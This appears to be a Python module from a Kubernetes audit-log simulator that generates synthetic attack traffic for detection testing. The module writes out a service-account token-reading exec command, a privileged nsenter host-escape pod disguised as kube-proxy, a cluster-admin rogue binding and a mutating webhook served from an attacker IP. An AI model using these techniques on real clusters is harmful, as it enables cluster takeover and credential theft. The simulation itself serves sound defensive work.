"""The attack scenarios of ``scenarios.SCENARIOS``, as traffic processes.

Each scenario runs in its own ``World`` fork (own random source, own tag) and never changes the
shared cluster state: resourceVersions are read, not advanced, and the pods it starts are
detached. That keeps the background identical with and without attacks.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from typing import Any
from urllib.parse import quote_plus

from k3watch.sample import objects as o
from k3watch.sample.automation import build_bot_reason
from k3watch.sample.boot import svclb_name
from k3watch.sample.cluster import Actor, rbac_reason, sa_subject_text, suffix
from k3watch.sample.engine import Process, World
from k3watch.sample.lifecycle import detached_pod, event_name, start_pod
from k3watch.sample.provision import SECRETS
from k3watch.sample.records import MINUTE, SECOND, api_path
from k3watch.sample.scenarios import (
    ALICE_NEW_IP,
    ATTACKER_IP,
    ESCAPE_POD,
    ROGUE_BINDING,
    ROGUE_DAEMONSET,
    ROGUE_WEBHOOK,
    SCENARIOS,
)
from k3watch.sample.versions import UA_ATTACKER
from k3watch.sample.writes import create

ALPINE = "docker.io/library/alpine:3.20"
NSENTER = [
    "nsenter",
    "--target",
    "1",
    "--mount",
    "--uts",
    "--ipc",
    "--net",
    "--pid",
    "--",
    "sleep",
    "infinity",
]
TOKEN_COMMAND = ("sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token")


def stolen_build_bot(w: World, *, admin: bool = False) -> Actor:
    """build-bot's token replayed by the attacker (from the internet, with a script).

    The token is the projected token of the build-runner pod, so ``user.extra`` still names
    that pod and its node. After the rogue binding, RBAC names the new binding as the reason.
    """
    reason = (
        rbac_reason(ROGUE_BINDING, "cluster-admin", sa_subject_text("build-bot", "default"))
        if admin
        else build_bot_reason()
    )
    pods = w.cluster.pods_of("default", "build-runner")
    if pods:
        actor = w.cluster.pod_actor(pods[0], UA_ATTACKER, reason)
    else:  # a stream too short to have provisioned the build service: a bare token
        actor = Actor(
            {
                "username": "system:serviceaccount:default:build-bot",
                "uid": w.cluster.uid("serviceaccount/default/build-bot"),
                "groups": [
                    "system:serviceaccounts",
                    "system:serviceaccounts:default",
                    "system:authenticated",
                ],
            },
            ATTACKER_IP,
            UA_ATTACKER,
            reason,
        )
    return replace(actor, ip=ATTACKER_IP)


def _at(w: World, start: int, seconds: float) -> int:
    """``seconds`` after ``start``, plus the sub-second jitter a script's pace has."""
    return start + int(seconds * SECOND) + w.rng.randrange(SECOND // 2)


def _rv(w: World) -> str:
    # Read the store revision without moving it (attacks must not change shared state).
    return str(w.cluster.rv + w.rng.randint(1, 5))


def brute_force(w: World, start: int) -> Process:
    """Scenario "brute-force": 40 bearer tokens rejected with 401 in about two minutes."""
    targets: list[tuple[str, str, dict[str, Any] | None]] = [
        (
            "list",
            api_path("secrets", "kube-system") + "?limit=500",
            {"resource": "secrets", "namespace": "kube-system", "apiVersion": "v1"},
        ),
        ("list", api_path("secrets") + "?limit=500", {"resource": "secrets", "apiVersion": "v1"}),
        (
            "list",
            api_path("pods", "default"),
            {"resource": "pods", "namespace": "default", "apiVersion": "v1"},
        ),
        (
            "create",
            api_path("selfsubjectrulesreviews", group="authorization.k8s.io"),
            {
                "resource": "selfsubjectrulesreviews",
                "apiGroup": "authorization.k8s.io",
                "apiVersion": "v1",
            },
        ),
        ("get", "/apis", None),
    ]
    t = _at(w, start, 0)
    yield t
    for i in range(40):
        verb, uri, ref = targets[i % len(targets)]
        w.log.unauthenticated(t, ATTACKER_IP, UA_ATTACKER, verb, uri, ref)
        t += w.rng.randint(2_300_000, 3_500_000) if i < 39 else 0
        yield t


def stolen_token(w: World, start: int) -> Process:
    """Scenario "stolen-token": permission check, discovery, then a sweep of secret reads."""
    t = start
    yield t
    log = w.log
    bot = stolen_build_bot(w)
    basic = rbac_reason("system:basic-user", "system:basic-user", 'Group "system:authenticated"')
    for offset, namespace in ((0, "default"), (5, "kube-system")):
        body = {
            "kind": "SelfSubjectRulesReview",
            "apiVersion": "authorization.k8s.io/v1",
            "metadata": {"creationTimestamp": None},
            "spec": {"namespace": namespace},
            "status": {"resourceRules": None, "nonResourceRules": None, "incomplete": False},
        }
        log.request(
            _at(w, start, offset),
            bot,
            "create",
            "selfsubjectrulesreviews",
            group="authorization.k8s.io",
            body=body,
            reason=basic,
        )
    log.request(_at(w, start, 12), bot, "list", "namespaces", query="limit=500")
    log.request(_at(w, start, 20), bot, "list", "pods", query="limit=500")
    log.request(_at(w, start, 31), bot, "list", "secrets", query="limit=500")
    log.request(_at(w, start, 40), bot, "list", "nodes", query="limit=500", code=403)
    t = _at(w, start, 50)
    yield t
    names = [("kube-system", "k3s-serving")]
    names += [("kube-system", f"{n.name}.node-password.k3s") for n in w.cluster.nodes]
    names += [
        ("kube-system", s)
        for s in (
            "chart-values-traefik",
            "chart-values-traefik-crd",
            "sh.helm.release.v1.traefik.v1",
            "sh.helm.release.v1.traefik-crd.v1",
        )
    ]
    names += [(ns, name) for ns, group in SECRETS for name in group]
    denials: dict[int, Callable[[int], object]] = {
        5: lambda at: log.request(
            at,
            bot,
            "create",
            "pods",
            namespace="shop",
            name="postgres-0",
            subresource="exec",
            query="command=id&container=postgres&stderr=true&stdout=true",
            code=403,
        ),
        10: lambda at: log.request(
            at, bot, "get", "nodes", name=w.cluster.workers[0].name, subresource="proxy", code=403
        ),
        13: lambda at: log.request(
            at,
            bot,
            "list",
            "clusterrolebindings",
            group="rbac.authorization.k8s.io",
            query="limit=500",
            code=403,
        ),
    }
    for i, (namespace, name) in enumerate(names):
        if i in denials:
            denials[i](t)
            t += w.rng.randint(3 * SECOND, 6 * SECOND)
        log.request(t, bot, "get", "secrets", namespace=namespace, name=name)
        t += w.rng.randint(8 * SECOND, 16 * SECOND)
        yield t


def alice_exec(w: World, start: int) -> Process:
    """Scenario "alice-exec-new-ip": exec that prints the pod's service-account token."""
    t = _at(w, start, 0)
    yield t
    alice = w.cluster.alice(ALICE_NEW_IP)
    pods = w.cluster.pods_of("shop", "api") or w.cluster.pods_of("shop", "web")
    w.log.request(t, alice, "list", "pods", namespace="shop", query="limit=500")
    if not pods:
        return
    pod = pods[0]
    container = pod.containers[0][0]
    t = _at(w, t, 25)
    w.log.request(t, alice, "get", "pods", namespace="shop", name=pod.name)
    command = "&".join(f"command={quote_plus(part, safe='')}" for part in TOKEN_COMMAND)
    query = f"{command}&container={container}&stderr=true&stdout=true"
    w.log.request(
        _at(w, t, 1.5),
        alice,
        "get",
        "pods",
        namespace="shop",
        name=pod.name,
        subresource="exec",
        query=query,
        duration_us=w.rng.randint(900_000, 1_600_000),
    )


def _escape_spec(node_name: str | None) -> dict[str, Any]:
    c = o.container(
        "kube-proxy",
        ALPINE,
        defaulted=False,
        command=NSENTER,
        resources={},
        mounts=[o.volume_mount("host", "/host")],
        security={"privileged": True},
    )
    return o.pod_spec(
        [c],
        defaulted=False,
        volumes=[o.host_path_volume("host", "/")],
        node_name=node_name,
        host_network=True,
        host_pid=True,
        tolerations=[{"operator": "Exists"}],
    )


def privileged_pod(w: World, start: int) -> Process:
    """Scenario "privileged-pod": a kube-proxy look-alike that enters the host's namespaces."""
    t = _at(w, start, 0)
    yield t
    bot = stolen_build_bot(w)
    server = w.cluster.server
    body = o.pod(
        o.meta(ESCAPE_POD, "kube-system", labels={"k8s-app": "kube-proxy"}),
        _escape_spec(server.name),
    )
    pod = detached_pod(
        w,
        ESCAPE_POD,
        "kube-system",
        server,
        "default",
        (("kube-proxy", ALPINE),),
        host_network=True,
    )
    start_pod(w, t, bot, pod, body, owner=ESCAPE_POD, schedule=False, track=False, controller=False)


def rbac_then_workload(w: World, start: int) -> Process:
    """Scenario "rbac-then-workload": bind to cluster-admin, then a privileged DaemonSet."""
    t = _at(w, start, 0)
    yield t
    bot = stolen_build_bot(w)
    binding = o.cluster_role_binding(
        ROGUE_BINDING, "cluster-admin", [o.sa_subject("build-bot", "default")]
    )
    create(w, t, bot, binding, manager="python-requests", rv=_rv(w))
    t = _at(w, start, 80)
    yield t
    admin = stolen_build_bot(w, admin=True)
    labels = {"app": ROGUE_DAEMONSET}
    ds = o.workload(
        "DaemonSet",
        o.meta(ROGUE_DAEMONSET, "kube-system", labels=labels),
        o.template(labels, _escape_spec(None)),
        selector=labels,
    )
    create(w, t, admin, ds, manager="python-requests", rv=_rv(w))
    creator = w.cluster.controller("daemon-set-controller")
    owner = o.owner_ref(
        "apps/v1",
        "DaemonSet",
        ROGUE_DAEMONSET,
        w.cluster.uid(f"DaemonSet/kube-system/{ROGUE_DAEMONSET}"),
    )
    t += w.rng.randint(30_000, 120_000)
    for node in w.cluster.nodes:
        spec = o.pinned_to(_escape_spec(None), node.name)
        pod_labels = {
            **labels,
            "controller-revision-hash": suffix(w.rng, 10),
            "pod-template-generation": "1",
        }
        body = o.pod(
            o.meta(
                generate_name=f"{ROGUE_DAEMONSET}-",
                namespace="kube-system",
                labels=pod_labels,
                owner=owner,
            ),
            spec,
        )
        pod = detached_pod(
            w,
            f"{ROGUE_DAEMONSET}-{suffix(w.rng)}",
            "kube-system",
            node,
            "default",
            (("kube-proxy", ALPINE),),
            host_network=True,
        )
        start_pod(w, t, creator, pod, body, owner=ROGUE_DAEMONSET, track=False)
        t += w.rng.randint(5_000, 40_000)


def webhook(w: World, start: int) -> Process:
    """Scenario "webhook": a mutating webhook on pod creation served from the internet."""
    t = _at(w, start, 0)
    yield t
    body = {
        "kind": "MutatingWebhookConfiguration",
        "apiVersion": "admissionregistration.k8s.io/v1",
        "metadata": o.meta(ROGUE_WEBHOOK),
        "webhooks": [
            {
                "name": "defaults.k3s-pod.io",
                "clientConfig": {"url": f"https://{ATTACKER_IP}:8443/mutate"},
                "rules": [
                    {
                        "operations": ["CREATE"],
                        "apiGroups": [""],
                        "apiVersions": ["v1"],
                        "resources": ["pods"],
                        "scope": "*",
                    }
                ],
                "failurePolicy": "Ignore",
                "matchPolicy": "Equivalent",
                "namespaceSelector": {},
                "objectSelector": {},
                "sideEffects": "None",
                "timeoutSeconds": 5,
                "admissionReviewVersions": ["v1"],
                "reinvocationPolicy": "Never",
            }
        ],
    }
    create(w, t, stolen_build_bot(w, admin=True), body, manager="python-requests", rv=_rv(w))


def delete_events(w: World, start: int) -> Process:
    """Scenario "delete-events": list then delete events in kube-system."""
    t = _at(w, start, 0)
    yield t
    bot = stolen_build_bot(w, admin=True)
    w.log.request(t, bot, "list", "events", namespace="kube-system", query="limit=500")
    involved = (
        [ESCAPE_POD] * 4
        + [ROGUE_DAEMONSET] * 3
        + [svclb_name(w), "traefik", "coredns", "local-path-provisioner", "metrics-server"]
    )
    t += w.rng.randint(2 * SECOND, 5 * SECOND)
    for name in involved:
        # Events recorded earlier that day (the recorder names them by their creation time).
        event = event_name(start - w.rng.randint(MINUTE, 18 * MINUTE), w.rng.randrange(1000), name)
        w.log.request(t, bot, "delete", "events", namespace="kube-system", name=event)
        t += w.rng.randint(1_000_000, 3_000_000)


RUNNERS: dict[str, Callable[[World, int], Process]] = {
    "brute-force": brute_force,
    "stolen-token": stolen_token,
    "alice-exec-new-ip": alice_exec,
    "privileged-pod": privileged_pod,
    "rbac-then-workload": rbac_then_workload,
    "webhook": webhook,
    "delete-events": delete_events,
}


def attack_processes(w: World, day_start: int, seed: int) -> list[Process]:
    """One process per scenario, each in its own fork, starting at its documented offset."""
    procs = []
    for scenario in SCENARIOS:
        fork = w.fork(scenario.name, f"k3watch-sample/{seed}/{scenario.name}")
        procs.append(RUNNERS[scenario.name](fork, day_start + scenario.offset_us))
    return procs
